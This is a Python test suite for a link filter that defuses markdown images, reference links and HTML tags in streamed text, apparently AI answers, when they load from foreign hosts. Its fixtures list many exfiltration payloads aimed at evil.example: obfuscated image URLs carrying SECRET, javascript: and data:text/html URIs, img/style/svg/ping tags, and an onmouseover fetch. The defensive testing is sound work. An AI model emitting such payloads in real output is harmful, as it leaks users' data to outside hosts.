"""What a browser would load from a stranger's address does not reach it."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.shared.text.link_filter import MAX_HELD_CHARS, LinkFilter, host_of

HOSTS = ("files.example", "localhost:8000")

LOADING = [
    "![x](http://evil.example/?q=SECRET)",
    "![x]( http://evil.example/?q=SECRET 'title')",
    "![x](<http://evil.example/?q=SECRET>)",
    "![x](\nhttp://evil.example/?q=SECRET)",
    "> ![x](\n> http://evil.example/?q=SECRET)",
    "![x](//evil.example/?q=SECRET)",
    "![x](HTTPS://EVIL.example/SECRET)",
    "![x](http:evil.example/SECRET)",
    "![x](http:\\\\evil.example/SECRET)",
    "![x](/\\evil.example/SECRET)",
    "![x](&#104;ttp://evil.example/SECRET)",
    "![x](http&colon;//evil.example/SECRET)",
    "![x](http://files.example@evil.example/SECRET)",
    "![x](http://files.example.evil.example/SECRET)",
    "![x](http://files.example:81/SECRET)",
    "![x](h[1]ttp://evil.example/SECRET)",
    "![x](data:text/html;base64,SECRET)",
    "![x](javascript:alert(1))",
    "![x](ftp://files.example/SECRET)",
    "[![x](http://evil.example/SECRET)](https://files.example)",
    "![a [b] c](http://evil.example/SECRET)",
    "![`]`](http://evil.example/SECRET)",
    "![x\ny](http://evil.example/SECRET)",
    "`![x](http://evil.example/SECRET)",
    "- a\n  ```\n![x](http://evil.example/SECRET)",
    "> ```\n\n![x](http://evil.example/SECRET)",
    "<div>\n```\n\n![x](http://evil.example/SECRET)",
    "```\ncode\n  ```\n![x](http://evil.example/SECRET)",
    "```\ncode\n``[1]`\n![x](http://evil.example/SECRET)",
    "```\rcode\r```\r![x](http://evil.example/SECRET)",
    "``` a`b\n![x](http://evil.example/SECRET)",
    *(
        f"{marks}\n![x](http://evil.example/SECRET)"
        for marks in ("`", "``", "~", "~~", "`` ", "~\t")
    ),
    "~~~ a|b\n--|--\n![x](http://evil.example/SECRET)|c",
    "``` a|b\n--|--\n![x](http://evil.example/SECRET)|c",
    "![9][a](http://evil.example/SECRET)",
    "![x](" + "a" * 3000 + "://evil.example/SECRET)",
]
REFERENCES = [
    "![x][y]\n\n[y]: http://evil.example/SECRET",
    "![y]\n\n[y]: <http://evil.example/SECRET>",
    "![y][]\n\n[y]:\n  http://evil.example/SECRET",
    "> [y]:\n> http://evil.example/SECRET",
    "[y\nz]: //evil.example/SECRET",
    "[y][1]: http://evil.example/SECRET",
]
TAGS = [
    "<img src=http://evil.example/SECRET>",
    "<IMG/src='http://evil.example/SECRET'>",
    "<img\nsrc=x>",
    "<i[9]mg src=http://evil.example/SECRET>",
    "<[9]img src=http://evil.example/SECRET>",
    '<div style="background:url(http://evil.example/SECRET)">',
    "<td background=http://evil.example/SECRET>",
    "<p title=\">\" style='background:url(//evil.example)'>",
    "<p sty[1]le='background:url(//evil.example)'>",
    "<p onmouseover=fetch('//evil.example')>",
    "<svg><image href=//evil.example/SECRET></svg>",
    "<iframe srcdoc=x>",
    "<style>*{background:url(//evil.example/SECRET)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<a ping=//evil.example href=/>x</a>",
    "<!--\n\n```\n-->",
    "<a" + " x" * MAX_HELD_CHARS + " style='background:url(//evil.example)'>",
]
HARMLESS = [
    "![chart](https://files.example/files/abc?sig=1)",
    "![chart](http://localhost:8000/files/abc)",
    "![chart](https://files.example:443/x)",
    "![chart](/files/abc)",
    "![chart](https://files\\.example/abc)",
    "![chart](images/cat.png)",
    "[docs](https://elsewhere.example/page)",
    "See <https://elsewhere.example> and a < b, x <3, 1<2.",
    'let v = vec![1, 2]; print!("{}", v[0]);',
    "def f(a: list[int]) -> dict[str, int]: return a[0]: int",
    '```html\n<img src="http://elsewhere.example/cat.png">\n![x](http://elsewhere.example)\n```\n',
    "~~~\n[y]: http://elsewhere.example\n~~~\n",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "\u2028 data: x\r\n\r\nnext\ttab 🙂",
    '<b>bold</b> <a href="https://elsewhere.example">x</a>',
    "`code` first\n``two`` ticks",
]


def filtered(text: str, size: int = 0) -> str:
    links = LinkFilter(HOSTS)
    if not size:
        return links.whole(text)
    pieces = [links.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join(pieces) + links.finish()


@pytest.mark.parametrize("text", LOADING)
@pytest.mark.parametrize("size", [0, 1, 7])
def test_an_image_of_a_stranger_becomes_text(text: str, size: int) -> None:
    shown = filtered(text, size)

    address = re.compile(r"\]\([\s>]*<?(?!https://files\.example\))")
    assert not address.search(shown), shown
    assert "SECRET" not in text or "SECRET" in shown, "nothing is lost, it only does not load"


@pytest.mark.parametrize("text", REFERENCES)
@pytest.mark.parametrize("size", [0, 1, 7])
def test_no_reference_leads_to_a_stranger(text: str, size: int) -> None:
    assert "]:" not in filtered(text, size)


@pytest.mark.parametrize("text", TAGS)
@pytest.mark.parametrize("size", [0, 1, 7])
def test_a_tag_that_loads_is_text(text: str, size: int) -> None:
    assert filtered(text, size).startswith("&lt;")


@pytest.mark.parametrize("text", HARMLESS)
@pytest.mark.parametrize("size", [0, 1, 3])
def test_everything_else_stays(text: str, size: int) -> None:
    assert filtered(text, size) == text


def test_a_link_is_not_held_longer_than_its_host() -> None:
    links = LinkFilter(HOSTS)

    assert links.feed("![x](https://files.example/a") == "![x](https://files.example/a"


def test_hosts_keep_unusual_ports() -> None:
    assert host_of("http://Files.example:80/x") == "files.example"
    assert host_of("http://127.0.0.1:8000") == "127.0.0.1:8000"


PIECES = st.sampled_from(
    [
        "![",
        "](",
        "]:",
        "http://evil.example",
        "//e",
        "https://files.example/",
        "<img",
        "<a",
        ">",
        "```",
        "`",
        "~~~",
        "[1]",
        "x",
        "<",
        "!",
        "]",
        "(",
        ")",
        "\\",
        "&#58;",
        "\n",
        "\r",
        "\r\n",
        " ",
    ]
)


@given(pieces=st.lists(PIECES, max_size=25), cuts=st.lists(st.integers(0, 120), max_size=8))
def test_any_split_gives_the_same(pieces: list[str], cuts: list[int]) -> None:
    text = "".join(pieces)
    links = LinkFilter(HOSTS)
    ends = sorted({min(cut, len(text)) for cut in cuts} | {len(text)})
    shown = "".join(
        links.feed(text[start:end]) for start, end in zip([0, *ends], ends, strict=False)
    )

    assert shown + links.finish() == filtered(text)


PICTURE = "data:image/png;base64,iVBORw0KGgo="


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif", "webp", "PNG"])
@pytest.mark.parametrize("size", [1, 20_000])
@pytest.mark.parametrize("step", [1, 7, 100_000])
def test_pictures_inside_of_an_answer_stay(kind: str, size: int, step: int) -> None:
    text = f"![x](data:image/{kind};base64,{'A' * size}) and\n[y]: {PICTURE}\n"
    links = LinkFilter(HOSTS)

    shown = [links.feed(text[at : at + step]) for at in range(0, len(text), step)]

    assert "".join(shown) + links.finish() == text


@pytest.mark.parametrize(
    "address",
    [
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:image/png,text",
        "data:text/html;base64,PGI+",
        "data[1]:image/png;base64,AA==",
        "http://evil.example/data:image/png;base64,AA==",
        "//evil.example/?data:image/png;base64,AA==",
    ],
)
def test_only_pictures_in_base64_count_as_inside(address: str) -> None:
    assert f"]({address})" not in LinkFilter(HOSTS).whole(f"![x]({address})")


def test_what_follows_a_picture_is_still_looked_at() -> None:
    hostile = "![x](http://evil.example/SECRET)"

    shown = LinkFilter(HOSTS).whole(f"![x]({PICTURE} {hostile}")

    assert "](http://evil.example" not in shown
